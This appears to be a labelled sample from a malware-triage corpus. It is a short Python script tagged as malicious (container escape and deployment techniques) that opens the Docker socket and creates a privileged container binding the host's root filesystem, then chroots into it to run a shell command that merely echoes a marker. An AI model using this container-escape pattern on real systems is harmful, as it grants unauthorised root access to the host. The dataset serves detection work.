# label: malicious family=k8s techniques=T1611,T1610 lines=4-7
import socket, json
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "echo pytriage-corpus"],
                   "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
s.sendall(("POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)).encode())
print(s.recv(4096))
